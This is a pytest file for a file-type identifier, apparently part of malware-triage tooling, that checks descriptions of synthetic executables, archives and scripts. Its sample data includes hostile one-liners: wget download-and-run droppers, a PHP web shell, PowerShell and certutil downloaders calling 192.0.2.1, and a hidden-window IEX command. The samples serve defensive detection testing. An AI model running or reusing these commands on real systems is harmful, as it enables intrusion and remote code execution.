"""What bytes are: real programs of this machine, made-up headers, cut-off headers, and random bytes."""

# ruff: noqa: E501 (a sample or a description is a line)
from __future__ import annotations

import gzip
import io
import lzma
import struct
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eudaemon.payload.headers import describe_elf, describe_macho, describe_pe
from eudaemon.payload.identify import Identity, identify
from eudaemon.payload.strings import STRINGS_MAX, strings
from payload.servers import tool


def elf(
    bits: int, order: str, machine: int, *, kind: int = 2, flags: int = 0, segments: tuple[int, ...] = (1,)
) -> bytes:
    """Return an ELF header and program headers of these types, as a linker for that machine would begin a file."""
    big = bits == 64
    head, step = (64, 56) if big else (52, 32)
    ident = b"\x7fELF" + bytes((2 if big else 1, 1 if order == "<" else 2, 1)) + bytes(9)
    fixed = struct.pack(f"{order}HHI{'QQQ' if big else 'III'}IHHHHHH", kind, machine, 1, 0x8000, head, 0, flags, head,
                        step, len(segments), 0, 0, 0)  # fmt: skip
    return ident + fixed + b"".join(struct.pack(f"{order}I", kind).ljust(step, b"\0") for kind in segments)


def pe(*, bits: int = 32, machine: int = 0x14C, dll: bool = False, subsystem: int = 2, net: bool = False,
       section: bytes = b".text") -> bytes:  # fmt: skip
    """Return the headers of a PE file with one section."""
    optional = bytearray(224 if bits == 32 else 240)
    struct.pack_into("<H", optional, 0, 0x10B if bits == 32 else 0x20B)
    struct.pack_into("<H", optional, 68, subsystem)
    struct.pack_into("<II", optional, (96 if bits == 32 else 112) + 8 * 14, 0x2000 * net, 72 * net)
    coff = struct.pack("<HHIIIHH", machine, 1, 0, 0, 0, len(optional), 0x102 | 0x2000 * dll)
    return (
        b"MZ".ljust(0x3C, b"\0")
        + struct.pack("<I", 0x80)
        + bytes(0x40)
        + b"PE\0\0"
        + coff
        + optional
        + section.ljust(40, b"\0")
    )


def zipped(*names: str) -> bytes:
    with zipfile.ZipFile(buffer := io.BytesIO(), "w") as archive:
        for name in names:
            archive.writestr(name, "content")
    return buffer.getvalue()


def tarred() -> bytes:
    with tarfile.open(fileobj=(buffer := io.BytesIO()), mode="w") as archive:
        archive.addfile(tarfile.TarInfo("x"))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("data", "description"),
    [
        (elf(32, "<", 40, flags=0x05000002), "ELF 32-bit little-endian, executable, ARM EABI5, statically linked, no section headers"),
        (elf(32, ">", 8), "ELF 32-bit big-endian, executable, MIPS, statically linked, no section headers"),
        (elf(32, "<", 8), "ELF 32-bit little-endian, executable, MIPS, statically linked, no section headers"),
        (elf(64, "<", 62, segments=(1, 2)), "ELF 64-bit little-endian, executable, x86-64, dynamically linked, no section headers"),
        (elf(64, "<", 183, kind=3, segments=(1, 2)),
         "ELF 64-bit little-endian, shared object, AArch64, dynamically linked, no section headers"),
        (elf(32, "<", 42) + b"UPX!", "ELF 32-bit little-endian, executable, SuperH, statically linked, no section headers, packed with UPX"),
        (elf(32, "<", 999, kind=77), "ELF 32-bit little-endian, type 77, machine 999"),
        (elf(32, "<", 40)[:30], "ELF 32-bit little-endian, cut off in the header"),
        (b"\x7fELF\x09\x09", "ELF, damaged header"),
        (bytes(0x8001) + b"CD001", "ISO 9660 image"),
        (b"MSCF\0\0\0\0" + bytes(30), "Windows cabinet"),
        (b"\x27\x05\x19\x56" + bytes(60), "U-Boot image"),
        (b"070701" + b"0" * 104, "cpio archive"),
        (lzma.compress(b"x" * 99, format=lzma.FORMAT_ALONE), "LZMA compressed data"),
        (pe(), "PE 32-bit, executable (GUI), Intel 80386"),
        (pe(bits=64, machine=0x8664, dll=True, subsystem=3), "PE 64-bit, DLL (console), x86-64"),
        (pe(subsystem=1), "PE 32-bit, driver (native), Intel 80386"),
        (pe(net=True), "PE 32-bit, executable (GUI), Intel 80386, .NET assembly"),
        (pe(section=b"UPX0"), "PE 32-bit, executable (GUI), Intel 80386, packed with UPX"),
        (pe()[:0x90], "PE, cut off in the header"),
        (b"MZ" + bytes(100), "DOS executable"),
        (b"MZ", "DOS executable, cut off in the header"),
        (b"\xcf\xfa\xed\xfe" + struct.pack("<III", 0x100000C, 0, 2), "Mach-O 64-bit executable, AArch64"),
        (b"\xca\xfe\xba\xbe\0\0\0\x02" + bytes(40), "Mach-O universal binary, 2 architectures"),
        (b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40), "Java class file, version 52 (Java 8)"),
        (b"dex\n035\0" + bytes(100), "Android Dalvik executable, version 035"),
        (zipped("AndroidManifest.xml", "classes.dex"), "Android package"),
        (zipped("META-INF/MANIFEST.MF", "Exploit.class"), "Java archive (JAR)"),
        (zipped("[Content_Types].xml", "word/vbaProject.bin"), "Office document (OOXML), with macros"),
        (zipped("readme"), "ZIP archive"),
        (gzip.compress(b"x"), "gzip compressed data"),
        (tarred(), "tar archive"),
        (b"#!/bin/sh\nid\n", "POSIX shell script"),
        (b"#! /usr/bin/env python3\nprint()\n", "Python script"),
        (b"#!/bin/bash -x\n", "Bash script"),
        (b"#!", "unknown interpreter script"),
        (b"cd /tmp; wget http://192.0.2.1/x; chmod 777 x; ./x\n", "POSIX shell script"),
        (b"<?php system($_GET['c']); ?>", "PHP script"),
        (b"import socket\nfrom os import dup2\nexec(x)\n", "Python script"),
        (b"\xef\xbb\xbf<!DOCTYPE html><html>", "HTML document"),
        (b"<html><body>404</body></html>", "HTML document"),
        (b'<?xml version="1.0"?><beans/>', "XML document"),
        (b"plain words and\nmore of them\n", "ASCII text"),
        ("Wörter\n".encode(), "UTF-8 text"),
        ("wide words".encode("utf-16"), "UTF-16 text"),
        (b"ssh-rsa AAAAB3Nza root@box\n", "OpenSSH public key"),
        (b"REDIS0009\xfa", "Redis database dump"),
        (b"\xac\xed\x00\x05sr", "serialised Java objects"),
        (b"dn: cn=a,dc=b\njavaFactory: A\n", "LDAP entry (LDIF)"),
        (b",\n", "ASCII text"),
        (bytes(range(256)), "data"),
        (b"", "empty file"),
    ],
)  # fmt: skip
def test_descriptions(data: bytes, description: str) -> None:
    assert identify(data).description == description


def test_programs_of_this_machine_agree_with_readelf() -> None:
    path = Path(sys.executable).resolve()
    header = subprocess.run(
        [tool("readelf", "binutils"), "-h", path], capture_output=True, text=True, check=True
    ).stdout
    identity = identify(path.read_bytes())
    assert identity.format == "elf"
    assert ("ELF64" in header) == ("64-bit" in identity.description)
    assert ("little endian" in header) == ("little-endian" in identity.description)
    assert "dynamically linked, interpreter /lib" in identity.description


@given(st.binary(max_size=300))
def test_random_bytes_are_something(data: bytes) -> None:
    assert isinstance(identify(data), Identity)


@given(
    st.sampled_from([elf(64, "<", 62, segments=(1, 2, 3)), elf(32, ">", 8, segments=(3, 3)), pe(), pe(bits=64)]),
    st.data(),
)
def test_damaged_headers_are_described_all_the_same(whole: bytes, data: st.DataObject) -> None:
    damaged = bytearray(whole[: data.draw(st.integers(4, len(whole)))])
    for _ in range(data.draw(st.integers(0, 8))):
        damaged[data.draw(st.integers(4, len(damaged) - 1)) if len(damaged) > 4 else 0] = data.draw(st.integers(0, 255))
    for describe in (describe_elf, describe_pe):
        assert describe(bytes(damaged))
    assert isinstance(describe_macho(bytes(damaged)), str)


def test_texts_narrow_and_wide_in_their_order() -> None:
    data = b"\0\1/bin/busybox\0\0" + "http://192.0.2.1/x".encode("utf-16-le") + b"\0\0\xff\xffabcd\0nothing much\0"
    found = list(strings(data))
    assert [(t.text, t.wide) for t in found] == [
        ("/bin/busybox", False),
        ("http://192.0.2.1/x", True),
        ("nothing much", False),
    ]
    assert [t.telling for t in found] == [True, True, False]
    assert all(data[t.offset : t.offset + 1] == t.text[:1].encode() for t in found)


def test_texts_are_limited() -> None:
    assert len(list(strings(b"abcdef\0" * 10_000))) == STRINGS_MAX
    assert max(len(t.text) for t in strings(b"a" * 100_000)) == 1024


SHELL, POWERSHELL, PYTHON = "POSIX shell script", "PowerShell script", "Python script"
SCRIPTS_AND_NEAR_MISSES = [
    (b"for i in arm mips; do wget http://192.0.2.1/$i; done\n", SHELL),
    (b"BIN=x\nwget -q 192.0.2.1/$BIN\nchmod 777 $BIN\n./$BIN\n", SHELL),
    (b"if [ -f /tmp/x ]\nthen\n  a\nfi\n", SHELL),
    (b"wget 192.0.2.1/x -O- | sh", SHELL),
    (b"wget is a program.\ncurl is another.\n", "ASCII text"),
    (b"for the record\nfor ever in our hearts, do not forget\n", "ASCII text"),
    (b"echo of the past\nwhile it lasted\n", "ASCII text"),
    (b"$x = New-Object Net.WebClient\n$x.DownloadFile('http://192.0.2.1/a','a')\nStart-Process -FilePath a\n", POWERSHELL),
    (b"powershell -nop -w hidden -c IEX(1)", POWERSHELL),
    (b"$92\r\n# Server\r\nredis_version:7.0.0\r\nredis_mode:standalone\r\n\r\n", "ASCII text"),
    (b"$5 a piece\n$6 for two\n", "ASCII text"),
    (b"$-1\r\n", "ASCII text"),
    (b"Set-top boxes\nnew-object lessons\ninvoke-and-wait\n", "ASCII text"),
    (b"import os, sys\ndef main(x):\n    print(x)\n", PYTHON),
    (b"from socket import *\n", PYTHON),
    (b"import duties rose\nfrom Monday on\ndef leppard\n", "ASCII text"),
    (b"import java.util.List;\n", "ASCII text"),
    (b"@echo off\ncertutil -urlcache -f http://192.0.2.1/a a\nstart a\n", "Windows batch script"),
    (b"rem sleep is deep\n@echoes of it\n", "ASCII text"),
    (b"var s = new ActiveXObject('WScript.Shell');\ns.Run('x');\n", "JavaScript script"),
    (b"use strict;\nuse IO::Socket;\nmy $x = 1;\n", "Perl script"),
    (b"use LWP well, my $5 are gone\nwe use strict rules\nmy @home\nat last\nthe end\n", "ASCII text"),
    (b"<%@page import=\"java.io.*\"%><%= 1 %>", "server page (JSP or ASP.NET)"),
    (b"#@~^ogAAAA==", "Windows script, encoded"),
    (b'Set s = CreateObject("WScript.Shell")\ns.Run "x"\n', "VBScript script"),
    (b"set menu\ndim lights\n", "ASCII text"),
    (b"<?php echo 1;", "PHP script"),
    (b"<? what\n", "ASCII text"),
    (b"+OK\r\n", "ASCII text"),
    (b"# only\n# remarks\n", "ASCII text"),
]  # fmt: skip


@pytest.mark.parametrize(("data", "description"), SCRIPTS_AND_NEAR_MISSES)
def test_a_script_needs_evidence(data: bytes, description: str) -> None:
    assert identify(data).description == description
